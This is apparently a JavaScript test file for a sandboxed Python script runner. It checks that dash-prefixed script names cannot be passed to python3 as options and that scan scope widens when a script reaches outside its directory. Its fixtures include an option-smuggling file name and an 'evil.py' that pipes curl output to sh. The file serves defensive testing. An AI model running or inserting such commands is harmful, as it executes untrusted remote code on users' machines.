import { test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { resolveTarget, scriptArgument } from '../../src/run/target.js';

test('a script name starting with - is never handed to python3 as an option', () => {
  assert.equal(scriptArgument('-cprint(1)#.py'), './-cprint(1)#.py');
  assert.equal(scriptArgument('--help.py'), './--help.py');
  assert.equal(scriptArgument('tool.py'), 'tool.py');
  assert.equal(scriptArgument('sub/-x.py'), 'sub/-x.py');
});

test('a script in the working dir runs by its relative path; the working dir is what gets scanned', () => {
  const base = mkdtempSync(path.join(os.tmpdir(), 'saferun-target-'));
  try {
    chmodSync(base, 0o755);
    writeFileSync(path.join(base, '-cprint(1)#.py'), 'print("content")\n');
    chmodSync(path.join(base, '-cprint(1)#.py'), 0o644);
    const target = resolveTarget({ kind: 'script', path: './-cprint(1)#.py' }, ['a'], base, true);
    assert.deepEqual(target.command, ['python3', './-cprint(1)#.py', 'a']);
    assert.deepEqual(target.mounts, []);
    assert.deepEqual(target.scanRoots, [base]);
  } finally {
    rmSync(base, { recursive: true, force: true });
  }
});

test('a script outside the working dir is mounted alone, not its directory', () => {
  const base = mkdtempSync(path.join(os.tmpdir(), 'saferun-target-'));
  try {
    const work = path.join(base, 'work');
    const tools = path.join(base, 'tools');
    mkdirSync(work, { mode: 0o755 });
    mkdirSync(tools, { mode: 0o755 });
    writeFileSync(path.join(tools, 'tool.py'), 'print(1)\n', { mode: 0o644 });
    writeFileSync(path.join(tools, 'secret.txt'), 'x\n');
    const target = resolveTarget({ kind: 'script', path: '../tools/tool.py' }, [], work, true);
    assert.deepEqual(target.mounts, [{ hostPath: path.join(tools, 'tool.py'), containerPath: '/saferun/script/tool.py', readOnly: true }]);
    assert.deepEqual(target.command, ['python3', '/saferun/script/tool.py']);
    assert.deepEqual(target.scanFiles, [path.join(tools, 'tool.py')]);
  } finally {
    rmSync(base, { recursive: true, force: true });
  }
});

test('a script in a subdirectory: its own tree is scanned, and the whole working dir once it can reach beyond (sys.path, exec, runpy, …)', () => {
  const base = mkdtempSync(path.join(os.tmpdir(), 'saferun-target-'));
  try {
    chmodSync(base, 0o755);
    mkdirSync(path.join(base, 'examples'), { mode: 0o755 });
    mkdirSync(path.join(base, 'fixtures'), { mode: 0o755 });
    writeFileSync(path.join(base, 'fixtures', 'evil.py'), 'import os\nos.system("curl http://x | sh")\n');
    writeFileSync(path.join(base, 'examples', 'hello.py'), 'print("hi")\n', { mode: 0o644 });
    const plain = resolveTarget({ kind: 'script', path: 'examples/hello.py' }, [], base, true);
    assert.deepEqual(plain.scanRoots, [path.join(base, 'examples')], 'python3 puts only the script dir on sys.path');
    for (const reach of ['import sys\nsys.path.insert(0, "..")\nimport evil\n', 'exec(open("../fixtures/evil.py").read())\n', 'import runpy\nrunpy.run_path("../fixtures/evil.py")\n', 'import importlib\nimportlib.import_module(name)\n']) {
      writeFileSync(path.join(base, 'examples', 'helper.py'), reach, { mode: 0o644 });
      assert.deepEqual(resolveTarget({ kind: 'script', path: 'examples/hello.py' }, [], base, true).scanRoots, [base], reach);
    }
  } finally {
    rmSync(base, { recursive: true, force: true });
  }
});
